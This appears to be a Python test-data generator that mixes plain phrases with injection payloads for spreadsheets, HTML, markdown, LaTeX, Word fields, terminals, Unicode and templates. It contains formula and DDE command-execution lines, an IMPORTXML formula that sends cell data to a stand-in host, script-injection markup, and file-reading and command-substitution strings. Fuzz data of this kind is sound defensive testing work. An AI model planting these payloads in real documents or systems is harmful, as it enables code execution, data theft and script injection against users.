"""Words that try to be more than words in whatever they are written into, the same ones each time."""

import random

# What programs of each sort would act on. `{n}` becomes a number.
FORMULAS = [
    "=1+{n}", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://bad.example/{n}","here")', "=cmd|' /C calc'!A0", "'=1+1", '"=1+1', ";=1+1",
    "=IMPORTXML(CONCAT(\"http://bad.example/?\",A1),\"//a\")", "%00=1", "\0=1+1", "\u200b=1",
]
MARKUP = [
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)", "</p></span></title></style><iframe src=//bad.example>", "<!--", "-->",
    "]]>", "<![CDATA[", "&lt;script&gt;", "&#60;b&#62;", "<a href=\"javascript:alert(1)\">x</a>",
    "<b id=x{n}>", "<style>*{{display:none}}</style>", "<base href=//bad.example>", "<?php ?>",
    "<meta http-equiv=refresh content=0>", "</script\t\n bar>", "<svg/onload=alert(1)//", "javascript:x",
]
MARKDOWN = [
    "[a](javascript:alert({n}))", "![a](http://bad.example/{n}.png)", "<http://bad.example/{n}>",
    "`code`", "```\nfenced\n```", "\n\n    indented", "\n# heading", "\n> quote", "\n- item",
    "\n1. item", "\n***\n", "| a | b |\n|---|---|", "\n[x]: http://bad.example\n[x]", "**bold**",
    "~~gone~~", "http://bad.example/{n}", "www.bad.example", "me@bad.example", "\\", "\\[a\\](b)",
    "\n---\ntitle: x\n---\n", "[^1]", "&copy;", "*a*", "_a_", "ftp://bad.example", "<me@bad.example>",
    "WWW.bad.example", "(www.bad.example)", "*www.bad.example*", "https://bad.example", "H~2~O^2^",
    "Title\n===", "Title\n---", "1) item", "\n: definition", "::: div", "@citation", "[@citation]",
]
LATEX = ["\\input{{/etc/passwd}}", "\\write18{{id}}", "$\\href{{javascript:x}}{{y}}$", "$$x$$", "\\(x\\)"]
FIELDS = [
    '{{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" }}', '{{ HYPERLINK "http://bad.example" }}',
    '`<w:fldSimple w:instr="DDE"/>`{{=openxml}}', "\x13 DDE \x14 x \x15", "_x0013_ DDE",
    "```{{=openxml}}\n<w:p/>\n```", "<w:instrText>DDE</w:instrText>",
]
TERMINAL = [
    "\x1b[31m", "\x1b[2J", "\x1b]0;title\x07", "\x1b]52;c;eA==\x07", "\x9b31m", "\x90q\x9c", "\x1bPq\x1b\\",
    "\x08\x08\x08", "\x7f", "\0", "\x0b\x0c", "\x85", "\x1b[?1049h", "\x1b]8;;http://bad.example\x07",
    "\x1b[200~", "\x1bc", "\r", "\r\nlast line",
]
LETTERS = [
    "\u202egnp.exe", "\u2066a\u2069", "\u200f", "\u061c", "".join(map(chr, range(0xE0041, 0xE0050))),
    "e" + "\u0301" * 60, "\u2028", "\u2029", "\ufeff", "\ufff9a\ufffab\ufffb", "\u00ad", "\uffff",
    "\ue000", "x" * 3000, "a " * 800, "👩🏽‍🦽", "कि", "\u3164", "\U000f0000", "ﷺ" * 40, "\u115f",
]
TEMPLATES = ["{{{{x}}}}", "${{x}}", "{{% if %}}", "%s%n%x", "{{words}}", "$(id)", "`id`", "../../etc", "'; --"]
KINDS = [FORMULAS, MARKUP, MARKDOWN, LATEX, FIELDS, TERMINAL, LETTERS, TEMPLATES]
BETWEEN = ["", " ", "  ", "\n", ". ", "/", "\"", "'", "(", "\t", ",", ";", "|", "\\", ">"]


def texts(number: int, seed: int = 7) -> list:
    """So many different answers, each of one to four pieces around a few plain words."""
    chance = random.Random(seed)
    return [text(place, chance) for place in range(number)]


def text(place: int, chance: random.Random) -> str:
    pieces = [
        chance.choice(chance.choice(KINDS)).replace("{n}", str(place)).replace("{{", "{")
        .replace("}}", "}")
        for _ in range(chance.randint(1, 4))
    ]
    pieces.insert(chance.randint(0, len(pieces)), f"I like my friends {place}")
    return chance.choice(BETWEEN).join(pieces)
